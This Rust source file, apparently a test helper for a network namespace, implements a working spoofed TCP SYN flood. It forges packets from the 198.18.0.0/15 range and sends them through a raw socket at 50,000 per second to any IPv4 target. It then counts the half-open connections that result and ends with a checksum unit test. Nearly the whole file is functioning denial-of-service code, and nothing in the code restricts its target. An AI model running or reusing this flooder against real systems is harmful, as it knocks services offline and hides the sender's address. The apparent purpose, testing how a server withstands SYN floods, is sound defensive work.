// SPDX-License-Identifier: MIT
//! SYNs of strangers, without an ACK to follow: half-open connections, in a network namespace whose
//! routes lose the answers.

use socket2::{Domain, Protocol, SockAddr, Socket, Type};
use std::fs;
use std::io;
use std::net::{Ipv4Addr, SocketAddr, SocketAddrV4};
use std::thread::sleep;
use std::time::{Duration, Instant};

/// Where the strangers are: addresses for measurements of networks, which are nobody's.
pub const STRANGERS: Ipv4Addr = Ipv4Addr::new(198, 18, 0, 0);
pub const STRANGERS_MASK: Ipv4Addr = Ipv4Addr::new(255, 254, 0, 0);
const PER_SECOND: f64 = 50_000.0;
const IP_HEADER: usize = 20;
const TCP_HEADER: usize = 20;

/// The sum of the Internet checksum (RFC 1071) over big-endian words.
fn sum(bytes: &[u8]) -> u32 {
    bytes
        .chunks(2)
        .map(|pair| u32::from(pair[0]) << 8 | u32::from(*pair.get(1).unwrap_or(&0)))
        .sum()
}

fn checksum(mut sum: u32) -> u16 {
    while sum > 0xffff {
        sum = (sum & 0xffff) + (sum >> 16);
    }
    !(sum as u16)
}

/// A SYN from stranger `number`, with its IP header; the kernel fills in that one's checksum.
fn syn(number: u32, target: SocketAddrV4) -> [u8; IP_HEADER + TCP_HEADER] {
    let mut packet = [0; IP_HEADER + TCP_HEADER];
    let source = u32::from(STRANGERS) + 1 + number % 0x1_fffe;
    let (ip, tcp) = packet.split_at_mut(IP_HEADER);
    ip[0] = 0x45;
    ip[3] = (IP_HEADER + TCP_HEADER) as u8;
    ip[8] = 64;
    ip[9] = libc::IPPROTO_TCP as u8;
    ip[12..16].copy_from_slice(&source.to_be_bytes());
    ip[16..20].copy_from_slice(&target.ip().octets());
    let port = 1024 + (number % 60_000) as u16;
    tcp[0..2].copy_from_slice(&port.to_be_bytes());
    tcp[2..4].copy_from_slice(&target.port().to_be_bytes());
    tcp[4..8].copy_from_slice(&number.to_be_bytes());
    tcp[12] = (TCP_HEADER as u8 / 4) << 4;
    tcp[13] = 0x02;
    tcp[14..16].copy_from_slice(&65_535_u16.to_be_bytes());
    let pseudo = sum(&ip[12..20]) + libc::IPPROTO_TCP as u32 + TCP_HEADER as u32;
    let check = checksum(pseudo + sum(tcp));
    tcp[16..18].copy_from_slice(&check.to_be_bytes());
    packet
}

/// Sends at most `count` of them, at a steady rate.
pub fn run(target: SocketAddr, count: u64, ending: &dyn Fn() -> bool) -> io::Result<()> {
    let SocketAddr::V4(target) = target else {
        return Err(io::Error::other("the flood needs an IPv4 address"));
    };
    let socket = Socket::new(
        Domain::IPV4,
        Type::RAW,
        Some(Protocol::from(libc::IPPROTO_RAW)),
    )?;
    let address = SockAddr::from(SocketAddrV4::new(*target.ip(), 0));
    let start = Instant::now();
    let mut sent = 0;
    while !ending() {
        let due = (start.elapsed().as_secs_f64() * PER_SECOND) as u64;
        while sent < due.min(count) {
            socket.send_to(&syn(sent as u32, target), &address)?;
            sent += 1;
        }
        sleep(Duration::from_millis(1));
    }
    Ok(())
}

/// Half-open connections in this network namespace.
pub fn half_open() -> io::Result<usize> {
    /// TCP_SYN_RECV, as the kernel prints it.
    const STATE: &str = "03";
    let table = fs::read_to_string("/proc/self/net/tcp")?;
    let state = |line: &&str| line.split_whitespace().nth(3) == Some(STATE);
    Ok(table.lines().filter(state).count())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_packet_with_its_checksum_sums_up_to_nothing() {
        let target = "127.0.0.1:8080".parse().unwrap();
        for number in [0, 1, 77_777] {
            let packet = syn(number, target);
            let pseudo = sum(&packet[12..20]) + libc::IPPROTO_TCP as u32 + TCP_HEADER as u32;
            assert_eq!(checksum(pseudo + sum(&packet[IP_HEADER..])), 0);
        }
    }
}
